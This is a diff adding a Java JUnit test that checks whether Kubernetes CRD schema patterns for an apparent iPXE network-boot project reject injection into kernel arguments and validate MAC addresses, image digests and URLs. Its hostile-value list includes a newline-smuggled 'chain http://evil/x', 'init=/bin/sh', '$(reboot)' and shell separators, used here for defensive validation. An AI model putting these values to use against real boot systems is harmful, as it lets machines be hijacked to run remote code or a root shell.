@@ -1,0 +1,104 @@
+package io.chrootbooter.api.v1alpha1;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
+import java.io.IOException;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * The patterns in the committed CRD YAML, the ones an API server enforces, refuse what must never
+ * reach an iPXE script or a kernel command line.
+ */
+class SchemaPatternsTest {
+
+  private static JsonNode specSchema(String file) throws IOException {
+    JsonNode crd =
+        new ObjectMapper(new YAMLFactory()).readTree(CrdYamlTest.CRDS_DIR.resolve(file).toFile());
+    return crd.at("/spec/versions/0/schema/openAPIV3Schema/properties/spec");
+  }
+
+  private static Pattern kernelArgPattern() throws IOException {
+    return Pattern.compile(
+        specSchema("machineboots.boot.chrootbooter.io-v1.yml")
+            .at("/properties/kernelArgs/items/pattern")
+            .asText());
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "quiet\nchain http://evil/x",
+        "${net0/mac}",
+        "a||b",
+        "a&&b",
+        "chain http://evil/",
+        "--",
+        "-- init=/bin/sh",
+        "\"q\"",
+        "'q'",
+        "a;b",
+        "a|b",
+        "a`b`",
+        "$(reboot)",
+        "init\u2044bin\u2044sh",
+        "quiet\u037e",
+        "quiet\t",
+        ""
+      })
+  void kernelArgumentPatternRefusesHostileValues(String hostile) throws IOException {
+    assertThat(kernelArgPattern().matcher(hostile).find()).isFalse();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "quiet",
+        "console=ttyS0,115200n8",
+        "systemd.unit=rescue.target",
+        "root=/dev/ram0",
+        "ip=10.0.0.2::10.0.0.1:255.255.255.0"
+      })
+  void kernelArgumentPatternAcceptsOrdinaryArguments(String arg) throws IOException {
+    assertThat(kernelArgPattern().matcher(arg).matches()).isTrue();
+  }
+
+  @Test
+  void schemaRequiresCanonicalMacAndOneOfImageRefOrState() throws IOException {
+    JsonNode spec = specSchema("machineboots.boot.chrootbooter.io-v1.yml");
+    Pattern mac = Pattern.compile(spec.at("/properties/macAddress/pattern").asText());
+    assertThat(mac.matcher("52:54:00:12:34:56").matches()).isTrue();
+    assertThat(mac.matcher("52:54:00:12:34:5F").matches()).isFalse();
+    assertThat(mac.matcher("52-54-00-12-34-56").matches()).isFalse();
+    assertThat(spec.at("/required").toString()).contains("macAddress");
+    assertThat(spec.at("/x-kubernetes-validations/0/rule").asText())
+        .isEqualTo("has(self.imageRef) != has(self.state)");
+  }
+
+  @Test
+  void bootImageSchemaRequiresADigestUnlessVerificationIsWaived() throws IOException {
+    JsonNode spec = specSchema("bootimages.boot.chrootbooter.io-v1.yml");
+    assertThat(spec.at("/x-kubernetes-validations/0/rule").asText())
+        .isEqualTo("has(self.sha256) || (has(self.insecureSkipVerify) && self.insecureSkipVerify)");
+    Pattern url = Pattern.compile(spec.at("/properties/source/properties/url/pattern").asText());
+    assertThat(url.matcher("https://mirror/debian.squashfs").matches()).isTrue();
+    assertThat(url.matcher("ftp://mirror/debian.squashfs").matches()).isFalse();
+    assertThat(url.matcher("http://mirror/a b").matches()).isFalse();
+    assertThat(spec.at("/properties/format/enum").toString())
+        .isEqualTo("[\"squashfs\",\"tar\",\"tar.gz\",\"tar.xz\",\"tar.zst\"]");
+  }
+
+  @Test
+  void formatIsInferredFromTheUrl() {
+    assertThat(ImageFormat.fromUrl("http://m/debian.squashfs")).contains(ImageFormat.SQUASHFS);
+    assertThat(ImageFormat.fromUrl("http://m/busybox.tar.zst?x=1")).contains(ImageFormat.TAR_ZST);
+    assertThat(ImageFormat.fromUrl("http://m/root.TGZ")).contains(ImageFormat.TAR_GZ);
+    assertThat(ImageFormat.fromUrl("http://m/root.tar")).contains(ImageFormat.TAR);
+    assertThat(ImageFormat.fromUrl("http://m/root.img")).isEmpty();
+  }
+}
